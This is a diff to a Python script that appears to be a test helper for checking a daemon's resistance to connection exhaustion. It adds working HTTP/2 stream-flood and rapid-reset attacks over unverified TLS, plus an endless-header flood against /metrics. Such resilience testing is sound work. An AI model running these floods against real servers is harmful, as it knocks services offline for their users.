@@ -3,10 +3,15 @@
 
   silent   connections that send nothing
   slow     requests of /metrics that arrive byte by byte, and whose answers are not read
-  hellos   the beginning of a TLS handshake, which is then left alone"""
+  hellos   the beginning of a TLS handshake, which is then left alone
+  endless  requests of /metrics whose header does not end
+  streams  HTTP/2 over TLS without a certificate, each with as many streams as are let in, none of which ends
+  resets   the same, but each stream is reset at once"""
 
 import resource
 import socket
+import ssl
+import struct
 import sys
 import time
 
@@ -55,9 +60,80 @@ def hold(kind, address, port):
             time.sleep(0.05)
 
 
+# HTTP/2: HEADERS of POST https://x/grpc.health.v1.Health/Watch, by HPACK's static table and literals.
+_HPACK = (b"\x83\x87\x04\x1c/grpc.health.v1.Health/Watch\x01\x01x\x0f\x10\x10application/grpc\x00\x02te\x08trailers")
+_HEADERS, _RST_STREAM, _SETTINGS, _END_HEADERS, _CANCEL = 1, 3, 4, 4, 8
+_HTTP2_AT_ONCE = 64
+
+
+def _frame(kind, flags, stream, payload):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def _http2(address, port):
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    connection = context.wrap_socket(socket.create_connection((address, port), 1))
+    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
+    connection.settimeout(0.05)
+    return connection
+
+
+def flood_streams(kind, address, port):
+    """Opens streams on many connections; a connection that the daemon closes is followed by a new one."""
+    held = []
+    began = time.monotonic()
+    told = False
+    while True:
+        try:
+            if len(held) < _HTTP2_AT_ONCE:
+                held.append([_http2(address, port), 1])
+        except OSError:
+            time.sleep(0.01)
+        for entry in list(held):
+            connection, stream = entry
+            frames = b""
+            for _ in range(64):
+                frames += _frame(_HEADERS, _END_HEADERS, stream, _HPACK)
+                if kind == "resets":
+                    frames += _frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))
+                stream += 2
+            entry[1] = stream
+            try:
+                connection.sendall(frames)
+            except TimeoutError:
+                pass
+            except OSError:
+                connection.close()
+                held.remove(entry)
+        if time.monotonic() > began + 1 and not told:
+            told = True
+            print("attacking", flush=True)
+
+
+def flood_headers(address, port):
+    print("attacking", flush=True)
+    while True:
+        try:
+            with socket.create_connection((address, port), 1) as connection:
+                connection.sendall(_PAGE)
+                while True:
+                    connection.sendall(b"y" * 65536)
+        except OSError:
+            pass
+
+
 def main():
     resource.setrlimit(resource.RLIMIT_NOFILE, (1024, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
-    hold(sys.argv[1], sys.argv[2], int(sys.argv[3]))
+    kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+    if kind in ("streams", "resets"):
+        flood_streams(kind, address, port)
+    elif kind == "endless":
+        flood_headers(address, port)
+    else:
+        hold(kind, address, port)
 
 
 if __name__ == "__main__":
